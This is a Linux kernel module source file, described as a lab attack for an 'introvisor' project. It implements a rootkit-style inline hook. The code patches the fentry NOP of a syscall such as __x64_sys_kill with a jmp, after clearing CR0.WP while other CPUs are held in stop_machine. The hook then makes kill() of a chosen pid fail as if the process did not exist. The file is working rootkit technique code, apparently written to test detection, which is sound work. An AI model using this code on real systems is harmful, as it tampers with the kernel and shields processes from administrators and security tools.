// SPDX-License-Identifier: GPL-2.0
/*
 * Lab attack: an inline hook. The 5-byte NOP at the entry of a kernel function
 * (its fentry site: the first instruction, or the one after endbr64) becomes a
 * `jmp` to a hook in this module, written with CR0.WP cleared while every other
 * CPU is held in stop_machine, as text-patching rootkits do. The hook answers
 * for `pid` itself (kill(pid, sig) fails with ESRCH: the process "does not
 * exist") and otherwise runs the function's body past the patched site, so the
 * kernel keeps working. Unloading puts the NOP back.
 *
 *   insmod iv_inline_hook.ko target=__x64_sys_kill pid=1234
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/irqflags.h>
#include <linux/ptrace.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include "iv_lookup.h"

static char *target = "__x64_sys_kill";
module_param(target, charp, 0444);
MODULE_PARM_DESC(target, "the function whose entry is hooked (takes const struct pt_regs *)");
static int pid = -1;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "kill() of this pid fails with ESRCH");

/* The 5-byte NOPs ftrace leaves at an fentry site: P6's, and the prefixed one 5.10 picks on some CPUs. */
static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
static const u8 nop5_prefixed[5] = { 0x66, 0x66, 0x66, 0x66, 0x90 };
static const u8 endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn body;	/* the function past the patched site */
static u8 *site;
static u8 patch[5];
static u8 saved[5];

static long iv_hook(const struct pt_regs *regs)
{
	if (pid > 0 && (long)regs->di == pid)
		return -ESRCH;
	return body(regs);
}

static inline void iv_write_cr0(unsigned long val)
{
	asm volatile("mov %0,%%cr0" : "+r"(val) : : "memory");
}

/* Runs with every other CPU spinning in stop_machine: nobody executes the site mid-write. */
static int iv_store(void *bytes)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	iv_write_cr0(cr0 & ~X86_CR0_WP);
	memcpy(site, bytes, 5);
	iv_write_cr0(cr0);
	local_irq_restore(flags);
	return 0;
}

static int __init iv_init(void)
{
	u8 *fn = (u8 *)iv_lookup_name(target);
	long rel;

	if (!fn) {
		pr_err("iv_inline_hook: %s not found\n", target);
		return -ENOENT;
	}
	site = memcmp(fn, endbr64, 4) == 0 ? fn + 4 : fn;
	if (memcmp(site, nop5, 5) != 0 && memcmp(site, nop5_prefixed, 5) != 0) {
		pr_err("iv_inline_hook: %s does not start with a 5-byte NOP (%5ph: traced, or hooked already)\n", target, site);
		return -EBUSY;
	}
	memcpy(saved, site, 5);
	rel = (long)iv_hook - (long)(site + 5);
	if (rel != (s32)rel)
		return -ERANGE;
	body = (syscall_fn)(site + 5);
	patch[0] = 0xe9;
	memcpy(patch + 1, &rel, 4);
	stop_machine(iv_store, patch, NULL);
	pr_info("iv_inline_hook: %s+0x%lx -> jmp %ps\n", target, (unsigned long)(site - fn), iv_hook);
	return 0;
}

static void __exit iv_exit(void)
{
	stop_machine(iv_store, saved, NULL);
	pr_info("iv_inline_hook: %s restored\n", target);
}

module_init(iv_init);
module_exit(iv_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("introvisor lab: inline jmp hook at a kernel function's entry");
